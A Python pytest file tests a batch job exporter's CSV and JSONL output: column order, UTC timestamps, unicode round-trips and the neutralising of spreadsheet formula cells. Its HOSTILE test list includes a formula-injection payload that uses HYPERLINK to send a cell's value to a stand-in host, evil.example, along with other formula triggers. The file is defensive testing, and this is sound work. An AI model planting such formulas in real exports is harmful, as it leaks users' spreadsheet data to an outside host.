from __future__ import annotations

import csv
import io
import json
from collections.abc import Callable, Sequence
from datetime import UTC, datetime, timedelta, timezone
from pathlib import Path
from typing import TextIO

import pytest

from batchgen.core import export
from batchgen.core.export import (
    ExportRecords,
    export_columns,
    export_columns_of,
    export_record,
    neutralise,
    write_csv,
    write_jsonl,
)
from batchgen.core.jobs import JobRow, JobStatus

from .rows import T0, MakeRow

LISTED_TAIL = [
    "repeat", "status", "generation_id", "result_url", "output_path", "sha256", "bytes", "cost", "error",
    "attempts", "enqueued_at", "started_at", "completed_at", "queue_seconds", "run_seconds", "downloaded_by",
]  # fmt: skip


def csv_dicts(rows: list[JobRow]) -> list[dict[str, str]]:
    out = io.StringIO(newline="")
    assert write_csv(rows, out) == len(rows)
    return list(csv.DictReader(io.StringIO(out.getvalue(), newline="")))


def jsonl_dicts(rows: list[JobRow]) -> list[dict[str, object]]:
    out = io.StringIO()
    assert write_jsonl(rows, out) == len(rows)
    return [json.loads(line) for line in out.getvalue().splitlines()]


def test_public_api_is_exactly_what_is_documented() -> None:
    assert set(export.__all__) == {
        "HEAD_COLUMNS", "RECORD_FIELDS", "TAIL_COLUMNS", "ExportRecords", "MissingColumnError", "cell_text", "export_columns", "export_columns_of", "export_record",
        "export_records", "neutralise", "row_axis_names", "write_csv", "write_jsonl",
    }  # fmt: skip


def test_column_order_is_head_then_axes_first_seen_then_tail(make_row: MakeRow) -> None:
    rows = [
        make_row("a", params={"seconds": "4", "size": "720p"}, variables={"subject": "ox", "seconds": "4"}),
        make_row("b", params={"seed": 7}, variables={"style": "noir"}),
    ]
    columns = export_columns(rows)
    assert columns[:4] == ["job_key", "run", "model", "prompt"]
    # variables first, then params; `seconds` is both a variable and a param: one column; prompt not repeated
    assert columns[4:9] == ["subject", "seconds", "size", "style", "seed"]
    tail = columns[9:]
    assert [c for c in tail if c in LISTED_TAIL] == LISTED_TAIL
    assert tail.index("estimated_cost") == tail.index("cost") - 1
    assert tail.index("error_class") == tail.index("error") - 1
    assert len(columns) == len(set(columns)) == 9 + len(LISTED_TAIL) + 2


def test_axis_named_like_a_fixed_column_gets_its_own_prefixed_column(make_row: MakeRow) -> None:
    row = make_row("a", params={"status": "draft"}, status=JobStatus.FAILED)
    [record] = csv_dicts([row])
    assert record["param.status"] == "draft"
    assert record["status"] == "failed"


def test_param_wins_over_same_named_variable(make_row: MakeRow) -> None:
    [record] = jsonl_dicts([make_row("a", params={"seconds": 8}, variables={"seconds": "eight"})])
    assert record["seconds"] == 8


HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1",
    "-1",
    "@SUM(A1:A2)",
    "\tcmd",
    "\r=1",
    "   =1+1",
    "\n@x",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_formula_cells_are_neutralised_in_csv_and_exact_in_jsonl(make_row: MakeRow, text: str) -> None:
    row = make_row(text, params={"negative_prompt": text}, error=text, status=JobStatus.FAILED)
    [record] = csv_dicts([row])
    assert record["prompt"] == "'" + text
    assert record["negative_prompt"] == "'" + text
    assert record["error"] == "'" + text
    [exact] = jsonl_dicts([row])
    assert exact["prompt"] == exact["negative_prompt"] == exact["error"] == text


@pytest.mark.parametrize("text", ["a=b", "ox -1", "", "'quoted", "email@example.com", "1+1"])
def test_harmless_text_is_left_alone(make_row: MakeRow, text: str) -> None:
    [record] = csv_dicts([make_row(text)])
    assert record["prompt"] == text


def test_numbers_we_serialise_are_not_neutralised(make_row: MakeRow) -> None:
    # an int -1 is a number to a spreadsheet, not a formula; the string "-1" is quoted (a different request)
    [record] = csv_dicts([make_row("a", params={"guidance": -1, "shift": "-1"})])
    assert record["guidance"] == "-1"
    assert record["shift"] == "'-1"


def test_non_string_params_are_compact_json(make_row: MakeRow) -> None:
    params = {"seed": 42, "loop": True, "ratio": 1.5, "weights": [0.5, 1], "extra": {"a": "é", "b": None}}
    [record] = csv_dicts([make_row("a", params=params)])
    assert record["seed"] == "42"
    assert record["loop"] == "true"
    assert record["ratio"] == "1.5"
    assert record["weights"] == "[0.5,1]"
    assert record["extra"] == '{"a":"é","b":null}'


def test_round_trip_through_a_utf8_file_keeps_unicode_newlines_and_quotes(tmp_path: Path, make_row: MakeRow) -> None:
    prompt = 'un bœuf « rouge », 牛, ثور, 🐂\nsecond line, with "quotes" and a comma'
    rows = [make_row(prompt, params={"style": "café"}), make_row("plain", repeat=1)]
    path = tmp_path / "results.csv"
    with path.open("w", encoding="utf-8", newline="") as out:
        write_csv(rows, out)
    assert not path.read_bytes().startswith(b"\xef\xbb\xbf")  # no BOM: the first header stays `job_key`
    with path.open(encoding="utf-8", newline="") as f:
        back = list(csv.DictReader(f))
    assert [r["prompt"] for r in back] == [prompt, "plain"]
    assert back[0]["style"] == "café"
    assert back[1]["style"] == ""  # a param only some rows have
    assert [r["job_key"] for r in back] == [r.job_key for r in rows]
    assert list(back[0]) == export_columns(rows)


def test_times_are_utc_with_z_and_latencies_are_computed(make_row: MakeRow) -> None:
    paris = timezone(timedelta(hours=2))
    row = make_row(
        "a",
        enqueued_at=T0,
        started_at=(T0 + timedelta(seconds=12.5)).astimezone(paris),
        completed_at=(T0 + timedelta(seconds=72.5)).replace(tzinfo=None),  # naive: read as UTC
        cost=1.2,
        estimated_cost=1.2,
        bytes=1234,
        attempts=2,
    )
    [record] = csv_dicts([row])
    assert record["enqueued_at"] == "2026-08-01T12:00:00Z"
    assert record["started_at"] == "2026-08-01T12:00:12.500000Z"
    assert record["completed_at"] == "2026-08-01T12:01:12.500000Z"
    assert record["queue_seconds"] == "12.5"
    assert record["run_seconds"] == "60.0"
    assert (record["cost"], record["bytes"], record["attempts"]) == ("1.2", "1234", "2")
    parsed = datetime.fromisoformat(record["started_at"])
    assert parsed == T0 + timedelta(seconds=12.5) and parsed.tzinfo is not None


def test_partial_rows_of_a_running_batch_export_with_blank_cells(make_row: MakeRow) -> None:
    rows = [
        make_row("done", enqueued_at=T0, started_at=T0, completed_at=T0 + timedelta(seconds=5)),
        make_row("running", status=JobStatus.PROCESSING, enqueued_at=T0, started_at=T0 + timedelta(seconds=3)),
        make_row("waiting", status=JobStatus.PENDING),
    ]
    done, running, waiting = csv_dicts(rows)
    assert done["run_seconds"] == "5.0"
    assert running["queue_seconds"] == "3.0" and running["run_seconds"] == "" and running["completed_at"] == ""
    assert waiting["status"] == "pending"
    blank = ["generation_id", "enqueued_at", "started_at", "completed_at", "queue_seconds", "cost", "bytes"]
    assert all(waiting[c] == "" for c in blank)
    assert waiting["attempts"] == "0"
    assert jsonl_dicts(rows)[2]["queue_seconds"] is None


def test_jsonl_keeps_exact_values_and_column_order(make_row: MakeRow) -> None:
    rows = [make_row("=1+1", params={"seed": 7, "weights": [1, 2]}, cost=0.25, repeat=3, enqueued_at=T0)]
    out = io.StringIO()
    write_jsonl(rows, out)
    [line] = out.getvalue().splitlines()
    record = json.loads(line)
    assert list(record) == export_columns(rows)
    assert record["prompt"] == "=1+1"
    assert record["seed"] == 7 and record["weights"] == [1, 2]
    assert record["cost"] == 0.25 and record["repeat"] == 3
    assert record["enqueued_at"] == "2026-08-01T12:00:00Z"
    assert record["error"] is None


def test_empty_run_writes_just_the_header() -> None:
    out = io.StringIO()
    assert write_csv([], out) == 0
    assert out.getvalue().strip().split(",")[:4] == ["job_key", "run", "model", "prompt"]


def test_demo_run_exports_one_row_per_job_in_order(demo_rows: list[JobRow]) -> None:
    records = csv_dicts(demo_rows)
    assert [r["job_key"] for r in records] == [r.job_key for r in demo_rows]
    assert {r["status"] for r in records} == {"succeeded", "failed", "processing", "queued"}
    assert export_columns(demo_rows)[4:8] == ["subject", "style", "seconds", "size"]
    assert records[0]["enqueued_at"].endswith("Z")
    assert all(datetime.fromisoformat(r["enqueued_at"]).tzinfo == UTC for r in records)


AWKWARD = [
    "plain", "", "=1+1", " =1", "\u00a0=cmd", "\u3000-2", "\t1", "\r1", "@a", "+a", "-a", "a,b", 'say "hi"', "two\nlines",
    "é", "ß=", 0, -3, 2.5, -0.0, float("nan"), float("inf"), True, False, None, {"a": [1, "=x"]}, ["=", 2],
]  # fmt: skip


def _reference_cell(value: object) -> str:
    """The CSV cell as the export documents it, the slow way."""
    if value is None:
        return ""
    if isinstance(value, str):
        return neutralise(value)
    if isinstance(value, bool | int | float):
        return json.dumps(value)
    return json.dumps(value, separators=(",", ":"), ensure_ascii=False, default=str)


@pytest.mark.parametrize("value", AWKWARD, ids=repr)
def test_streamed_csv_cells_are_the_documented_ones(make_row: MakeRow, value: object) -> None:
    # the streamed writer's quick paths (no call per cell, a line joined without the csv module) must write what
    # the rules say, for text a spreadsheet would run, text csv must quote, and every JSON type
    rows = [
        make_row(f"{value}", params={"v": value}, variables={"w": value}, error=str(value), generation_id=str(value)),
        make_row("second", params={"v": "ok"}),
    ]
    columns = export_columns(rows)
    out = io.StringIO(newline="")
    write_csv(rows, out, columns)
    expected = io.StringIO(newline="")
    writer = csv.writer(expected)
    writer.writerow(columns)
    for row in rows:
        writer.writerow([_reference_cell(v) for v in export_record(row, columns).values()])
    assert out.getvalue() == expected.getvalue()


@pytest.mark.parametrize("write", [write_csv, write_jsonl])
def test_rows_past_the_cells_cache_are_their_own_whether_it_keeps_remembering_or_stops(
    write: Callable[[ExportRecords, TextIO, Sequence[str]], int],
) -> None:
    """The writers remember a job's prompt and axis cells by its parameter and variable texts, and stop once jobs
    prove to be each their own: every row is still the one it is written alone, in a run that begins with jobs of
    their own and then shares a few texts, and in one that shares from the start."""

    def record(i: int, prompt: str, size: str, subject: str) -> tuple[object, ...]:
        params = json.dumps({"prompt": prompt, "size": size})
        return (f"k{i}", "r", "m", params, json.dumps({"subject": subject}), 0, "succeeded", f"g{i}", None, None,
                None, None, 0.25, 0.25, None, None, 1, None, None, None, None)  # fmt: skip

    own = [record(i, f"p{i}", "s", f"p{i}") for i in range(export._MIDDLES_HELD + 500)]
    shared = [record(len(own) + i, f"q{i % 3}", f"s{i % 2}", f"v{i % 5}") for i in range(3_000)]
    columns = export_columns_of([("subject", "size")])
    for records in (own + shared, shared + own):
        out = io.StringIO(newline="")
        assert write(ExportRecords(records), out, columns) == len(records)
        alone = []
        for r in records:
            one = io.StringIO(newline="")
            write(ExportRecords([r]), one, columns)
            alone.append(one.getvalue().split("\r\n", 1)[1] if write is write_csv else one.getvalue())
        head = out.getvalue().split("\r\n", 1)[0] + "\r\n" if write is write_csv else ""
        assert out.getvalue() == head + "".join(alone)
